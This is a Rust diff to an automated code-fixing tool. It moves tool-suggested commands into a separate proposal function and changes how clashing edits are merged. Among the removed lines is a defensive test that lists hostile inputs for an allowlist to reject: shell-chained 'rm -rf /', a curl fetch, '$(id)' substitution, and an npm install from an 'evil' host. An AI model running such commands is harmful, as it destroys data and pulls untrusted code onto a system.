@@ -14,7 +14,7 @@ use super::language::Language;
 use super::patch::patch_fingerprint;
 use super::sanitize::one_line;
 use super::{PastAttempt, edits};
-use crate::contract::bug::{Applicability, BugReport, Category, Hint, Suggestion};
+use crate::contract::bug::{Applicability, BugReport, Category, Fingerprint, Hint, Suggestion};
 use crate::contract::fix::{Edit, FixProposal, Usage};
 use crate::contract::git::{RepoPath, SourceTree};
 use crate::diff::LineDiff;
@@ -45,12 +45,11 @@ struct Stated<'b> {
     /// The hint in words.
     words: String,
     ops: BTreeMap<RepoPath, Vec<Op>>,
-    commands: Vec<String>,
     confidence: f64,
 }
 
-/// Proposals of the toolchain, best first: everything stated at once, then what is certain, then tools' own
-/// commands, then report by report. Those that were tried before are left out.
+/// Edits that the log states, best first: all that do not clash at once, then of these what is certain, then report by
+/// report. Those that were tried before are left out. Commands that a log states are for the plan to rebuild.
 #[must_use]
 pub fn toolchain_proposals(
     bugs: &[BugReport],
@@ -58,9 +57,7 @@ pub fn toolchain_proposals(
     history: &[PastAttempt],
 ) -> Vec<FixProposal> {
     let stated: Vec<Stated<'_>> = bugs.iter().filter_map(|bug| read(bug, tree)).collect();
-    let with_edits: Vec<&Stated<'_>> = stated.iter().filter(|s| !s.ops.is_empty()).collect();
-    let applied: Vec<&Stated<'_>> =
-        with_edits.iter().copied().filter(|s| s.confidence > SHOWN_ONLY).collect();
+    let applied: Vec<&Stated<'_>> = stated.iter().filter(|s| s.confidence > SHOWN_ONLY).collect();
     let sure: Vec<&Stated<'_>> = applied.iter().copied().filter(|s| s.confidence >= SURE).collect();
     let mut found = Vec::new();
     if applied.len() > 1 {
@@ -69,30 +66,17 @@ pub fn toolchain_proposals(
     if sure.len() > 1 && sure.len() < applied.len() {
         found.extend(join(&sure, tree));
     }
-    let mut commands: Vec<&str> = Vec::new();
     for one in &stated {
-        for command in &one.commands {
-            if !commands.contains(&command.as_str()) {
-                commands.push(command);
-            }
-        }
-    }
-    for command in commands {
-        let of: Vec<&Stated<'_>> =
-            stated.iter().filter(|s| s.commands.iter().any(|c| c == command)).collect();
-        found.push(proposal(&of, Vec::new(), Some(command.to_owned()), format!("run `{command}`")));
-    }
-    for one in with_edits {
         found.extend(join(&[one], tree));
     }
     let mut seen: Vec<String> = Vec::new();
     found.retain(|proposal| {
-        let key = key(proposal, tree);
+        let key = edits::apply(&proposal.edits, &[], tree)
+            .map_or_else(|r| format!("{r:?}"), |c| patch_fingerprint(&c));
         let tried = history.iter().any(|past| {
-            past.proposal.provider == TOOLCHAIN
-                && past.proposal.command == proposal.command
-                && (proposal.command.is_some() || past.proposal.edits == proposal.edits)
-        }) || history.iter().any(|past| past.patch.as_ref() == Some(&key));
+            past.patch.as_ref() == Some(&key)
+                || past.proposal.provider == TOOLCHAIN && past.proposal.edits == proposal.edits
+        });
         let fresh = !tried && !seen.contains(&key);
         seen.push(key);
         fresh
@@ -100,27 +84,25 @@ pub fn toolchain_proposals(
     found
 }
 
-fn key(proposal: &FixProposal, tree: &dyn SourceTree) -> String {
-    match &proposal.command {
-        Some(command) => format!("$ {command}"),
-        None => edits::apply(&proposal.edits, &[], tree)
-            .map_or_else(|r| format!("{r:?}"), |c| patch_fingerprint(&c)),
-    }
+/// What runs a tool's own command in the sandbox, to fix `bugs`; `None` where that was tried before.
+#[must_use]
+pub fn command_proposal(bugs: &[&BugReport], command: &str, history: &[PastAttempt]) -> Option<FixProposal> {
+    let tried = history
+        .iter()
+        .any(|past| past.proposal.provider == TOOLCHAIN && past.proposal.command.as_deref() == Some(command));
+    let fingerprints = bugs.iter().map(|bug| bug.fingerprint.clone()).collect();
+    let reason = format!("run `{}`", one_line(command, 200));
+    (!tried).then(|| proposal(fingerprints, SURE, Vec::new(), Some(command.to_owned()), reason))
 }
 
 fn read<'b>(bug: &'b BugReport, tree: &dyn SourceTree) -> Option<Stated<'b>> {
     let derived = if bug.hint.is_none() { derived::hint(bug, tree) } else { None };
     let hint = bug.hint.as_ref().or(derived.as_ref())?;
     let words = one_line(&hint.text, 120);
-    let mut stated =
-        Stated { bug, words, ops: BTreeMap::new(), commands: Vec::new(), confidence: confidence(hint) };
+    let mut stated = Stated { bug, words, ops: BTreeMap::new(), confidence: confidence(hint) };
     for suggestion in &hint.suggestions {
         match suggestion {
-            Suggestion::Command { run } => {
-                if is_fixing_command(run) {
-                    stated.commands.push(run.trim().to_owned());
-                }
-            }
+            Suggestion::Command { .. } => {}
             Suggestion::AddDependency { name } => {
                 if let Some((path, op)) = add_dependency(name, bug, tree) {
                     stated.confidence = SHOWN_ONLY;
@@ -134,7 +116,7 @@ fn read<'b>(bug: &'b BugReport, tree: &dyn SourceTree) -> Option<Stated<'b>> {
             }
         }
     }
-    (!stated.ops.is_empty() || !stated.commands.is_empty()).then_some(stated)
+    (!stated.ops.is_empty()).then_some(stated)
 }
 
 fn confidence(hint: &Hint) -> f64 {
@@ -355,26 +337,27 @@ fn only_in_block(lines: &Lines<'_>, first: u32, last: u32) -> bool {
     heads && ends
 }
 
-/// Joins the edits of several reports into one proposal; `None` where they contradict each other.
+/// Joins the edits of several reports into one proposal; of those that contradict each other the first stays.
 fn join(stated: &[&Stated<'_>], tree: &dyn SourceTree) -> Option<FixProposal> {
     let mut by_file: BTreeMap<&RepoPath, Vec<&Op>> = BTreeMap::new();
+    let mut joined: Vec<&Stated<'_>> = Vec::new();
     for one in stated {
-        for (path, ops) in &one.ops {
-            by_file.entry(path).or_default().extend(ops);
+        let clashes = one.ops.iter().any(|(path, ops)| {
+            let taken = by_file.get(path).map_or(&[][..], Vec::as_slice);
+            ops.iter().any(|op| taken.iter().any(|other| *other != op && clash(op, other)))
+                || ops.iter().enumerate().any(|(at, op)| ops[..at].iter().any(|o| o != op && clash(o, op)))
+        });
+        if !clashes {
+            joined.push(one);
+            for (path, ops) in &one.ops {
+                by_file.entry(path).or_default().extend(ops);
+            }
         }
     }
     let mut edits = Vec::new();
     for (path, mut ops) in by_file {
         ops.sort_unstable();
         ops.dedup();
-        // Whole lines put in at one place stand one after the other; anything else there is a contradiction.
-        let lines = |op: &Op| op.start == op.end && op.text.ends_with('\n');
-        let clash = |a: &Op, b: &Op| {
-            a.end > b.start || (a.start == b.start && a.end == b.end && !(lines(a) && lines(b)))
-        };
-        if ops.windows(2).any(|p| clash(p[0], p[1])) {
-            return None;
-        }
         let before = tree.read_text(path)?;
         let mut after = String::with_capacity(before.len());
         let mut done = 0;
@@ -389,27 +372,36 @@ fn join(stated: &[&Stated<'_>], tree: &dyn SourceTree) -> Option<FixProposal> {
     if edits.is_empty() {
         return None;
     }
-    let reason = match stated {
+    let reason = match joined.as_slice() {
         [one] => one.words.clone(),
         many => format!("apply what the tools suggest for {} reports", many.len()),
     };
-    Some(proposal(stated, edits, None, reason))
+    let confidence = joined.iter().map(|s| s.confidence).fold(1.0, f64::min);
+    let mut bugs: Vec<_> = joined.iter().map(|s| s.bug.fingerprint.clone()).collect();
+    bugs.dedup();
+    Some(proposal(bugs, confidence, edits, None, reason))
+}
+
+/// Two changes of one place. Whole lines put in at one place stand one after the other.
+fn clash(a: &Op, b: &Op) -> bool {
+    let (a, b) = if (a.start, a.end) <= (b.start, b.end) { (a, b) } else { (b, a) };
+    let lines = |op: &Op| op.start == op.end && op.text.ends_with('\n');
+    a.end > b.start || (a.start == b.start && a.end == b.end && !(lines(a) && lines(b)))
 }
 
 fn proposal(
-    stated: &[&Stated<'_>],
+    bugs: Vec<Fingerprint>,
+    confidence: f64,
     edits: Vec<Edit>,
     command: Option<String>,
     reason: String,
 ) -> FixProposal {
-    let mut bugs: Vec<_> = stated.iter().map(|s| s.bug.fingerprint.clone()).collect();
-    bugs.dedup();
     FixProposal {
         provider: TOOLCHAIN.to_owned(),
         model: None,
         bugs,
         context_level: 0,
-        confidence: stated.iter().map(|s| s.confidence).fold(1.0, f64::min),
+        confidence,
         reason,
         edits,
         command,
@@ -470,87 +462,6 @@ fn unique(text: &str, quote: &str) -> bool {
         let next = at + text[at..].chars().next().map_or(1, char::len_utf8);
         !text[next..].contains(quote)
     })
-}
-
-/// Tools' own fixing commands, by their first words. A log may be forged: only these are ever run, without any of
-/// the shell's signs.
-const COMMANDS: &[&str] = &[
-    "cargo fmt",
-    "cargo fix",
-    "cargo clippy --fix",
-    "cargo generate-lockfile",
-    "cargo update",
-    "rustfmt",
-    "gofmt -w",
-    "gofmt -s -w",
-    "gofumpt -w",
-    "goimports -w",
-    "go fmt",
-    "go fix",
-    "go mod tidy",
-    "go mod download",
-    "go mod vendor",
-    "go get",
-    "go work sync",
-    "go generate",
-    "golangci-lint run --fix",
-    "ruff check --fix",
-    "ruff --fix",
-    "ruff format",
-    "black",
-    "isort",
-    "autoflake",
-    "autopep8",
-    "yapf -i",
-    "python -m black",
-    "python3 -m black",
-    "python -m isort",
-    "python3 -m isort",
-    "python -m ruff",
-    "python3 -m ruff",
-    "pre-commit run",
-    "poetry lock",
-    "uv lock",
-    "uv sync",
-    "pdm lock",
-    "prettier --write",
-    "prettier -w",
-    "npx prettier --write",
-    "npx prettier -w",
-    "npx eslint",
-    "eslint",
-    "npx standard --fix",
-    "npx @biomejs/biome",
-    "npx biome",
-    "biome",
-    "npm install",
-    "npm dedupe",
-    "npm run format",
-    "npm run lint:fix",
-    "pnpm install --no-frozen-lockfile",
-    "pnpm install --fix-lockfile",
-    "pnpm format",
-    "yarn install",
-    "yarn format",
-    "mvn spotless:apply",
-    "mvn com.diffplug.spotless:spotless-maven-plugin:apply",
-    "./mvnw spotless:apply",
-    "gradle spotlessApply",
-    "./gradlew spotlessApply",
-    "./gradlew --write-locks",
-    "dotnet format",
-    "terraform fmt",
-];
-
-fn is_fixing_command(run: &str) -> bool {
-    let run = run.trim();
-    let plain = run.len() < 500
-        && !run.contains(['\n', '\r', ';', '&', '|', '<', '>', '$', '`', '(', ')', '{', '}', '\\', '#']);
-    plain
-        && COMMANDS
-            .iter()
-            .any(|known| run.strip_prefix(known).is_some_and(|rest| rest.is_empty() || rest.starts_with(' ')))
-        && !run.split_whitespace().any(|word| word.contains("://"))
 }
 
 /// Import names whose package goes by another name, and common ones that share it.
@@ -719,6 +630,32 @@ mod tests {
     }
 
     #[test]
+    fn of_clashing_hints_the_first_is_taken_and_the_rest_stays() {
+        let text: String = (1..=19).map(|n| format!("word{n}\n")).collect();
+        let tree = MemoryTree::new(&[("a.rs", &text)]);
+        let lines = |line: u32, old: &[&str], new: &str| Suggestion::ReplaceLines {
+            file: "a.rs".to_owned(),
+            line,
+            old: old.iter().map(|s| (*s).to_owned()).collect(),
+            new: vec![new.to_owned()],
+        };
+        let mut bugs: Vec<BugReport> = (1..=18)
+            .map(|n| hinted("a.rs", n, vec![lines(n, &[&format!("word{n}")], &format!("W{n}"))]))
+            .collect();
+        bugs.insert(6, hinted("a.rs", 5, vec![lines(5, &["word5", "word6"], "W5and6")]));
+        for (n, bug) in bugs.iter_mut().enumerate() {
+            bug.fingerprint = Fingerprint(n.to_string());
+        }
+        let proposals = toolchain_proposals(&bugs, &tree, &[]);
+        assert_eq!(proposals[0].bugs.len(), 18);
+        assert!(!proposals[0].bugs.contains(&bugs[6].fingerprint));
+        let changes = edits::apply(&proposals[0].edits, &[], &tree).unwrap();
+        let healed: String = (1..=18).map(|n| format!("W{n}\n")).collect();
+        assert_eq!(changes[0].after.as_deref(), Some(format!("{healed}word19\n").as_str()));
+        assert_eq!(proposals.len(), 20, "then one by one");
+    }
+
+    #[test]
     fn two_missing_imports_are_added_together() {
         let tree = MemoryTree::new(&[("a.py", "import os\n\nmath.pi\nre.compile\n")]);
         let bugs = [
@@ -731,27 +668,6 @@ mod tests {
             changes[0].after.as_deref(),
             Some("import os\nimport math\nimport re\n\nmath.pi\nre.compile\n")
         );
-    }
-
-    #[test]
-    fn only_known_commands_are_offered() {
-        for good in
-            ["cargo fmt", "cargo fmt --all", "go mod tidy", "ruff check --fix src", "npx prettier --write ."]
-        {
-            assert!(is_fixing_command(good), "{good}");
-        }
-        for bad in [
-            "cargo fmt; rm -rf /",
-            "cargo fmt && x",
-            "cargo fmtx",
-            "curl http://x",
-            "go get $(id)",
-            "npm install http://evil/x.tgz",
-            "rm -rf .",
-            "black\nrm",
-        ] {
-            assert!(!is_fixing_command(bad), "{bad}");
-        }
     }
 
     #[test]
